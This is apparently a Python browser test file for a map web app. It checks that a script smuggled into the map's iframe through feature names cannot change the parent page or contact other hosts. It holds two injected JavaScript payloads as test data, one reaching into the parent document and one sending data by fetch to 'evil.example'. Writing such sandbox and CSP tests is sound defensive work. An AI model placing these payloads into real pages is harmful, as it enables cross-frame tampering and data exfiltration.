"""Should escaping fail one day, the script that gets into the map's frame gets no further."""

from __future__ import annotations

import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlencode

import pytest
from playwright.sync_api import Browser, expect

from tests.browser.conftest import open_page, wait_until_ready
from tests.browser.hostile import Alarm
from tests.browser.zone_page import ZonePage
from tests.builders import a_frame, a_point, an_enterprise
from tests.ports import free_port
from zqmap.settings import ROOT
from zqmap.store.store import Store

REACH = "window.ran=1;try{parent.document.title='owned'}catch(e){window.caught=e.name}"
LEAK = "window.ran=1;fetch('https://evil.example/'+name)"
ID = "reaching"


@pytest.fixture(scope="module")
def unescaped(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    folder = tmp_path_factory.mktemp("unescaped")
    environment = os.environ | {"ZQMAP_VAR": str(folder)}
    subprocess.run([sys.executable, "-m", "zqmap", "init"], cwd=ROOT, env=environment, check=True, capture_output=True)
    _publish_reaching_names(folder)
    port, log = free_port(), folder / "server.log"
    command = [sys.executable, "-m", "uvicorn", "tests.browser.unescaped_app:app", "--port", str(port)]
    with log.open("wb") as sink:
        process = subprocess.Popen(command, cwd=ROOT, env=environment, stdout=sink, stderr=subprocess.STDOUT)
    url = f"http://127.0.0.1:{port}"
    wait_until_ready(url, process, log)
    yield url
    process.terminate()
    process.wait(20)


def _publish_reaching_names(folder: Path) -> None:
    store = Store(f"sqlite:///{folder / 'zqmap.sqlite'}")
    names = {ID: REACH, "leaking": LEAK}
    features = [
        an_enterprise(id_, a_point(112.70, 23.20), name_zh=name, name_en=name) for id_, name in sorted(names.items())
    ]
    store.publish("enterprises", a_frame("enterprises", *features), base=1, author="test", note="test")
    store.close()


def test_a_script_in_the_frame_leaves_the_page_untouched_and_clicks_work_H7(chromium: Browser, unescaped: str):
    page = open_page(chromium)
    zone = ZonePage(page, unescaped).open(urlencode({"q": REACH, "view": "23.20000,112.70000,13"}))
    zone.frame.wait_for_function("() => window.ran === 1")
    assert zone.frame.evaluate("() => window.caught") == "SecurityError"
    assert page.title() != "owned"
    zone.click_feature("enterprises", ID)
    zone.wait_for_link(f"query.get('feature') === 'enterprises/{ID}'")
    expect(zone.detail.get_by_role("heading").first).to_be_visible()
    assert page.title() != "owned"
    page.context.close()


def test_a_script_in_the_frame_can_ask_no_other_host_H7(chromium: Browser, unescaped: str):
    page = open_page(chromium)
    alarm = Alarm(page)
    refused: list[str] = []
    page.on("console", lambda line: refused.append(line.text) if "Content Security Policy" in line.text else None)
    zone = ZonePage(page, unescaped).open(urlencode({"q": LEAK, "view": "23.20000,112.70000,13"}))
    zone.frame.wait_for_function("() => window.ran === 1")
    assert any("evil.example" in line for line in refused)
    assert not any(line.startswith("request") for line in alarm.rung)
    page.context.close()
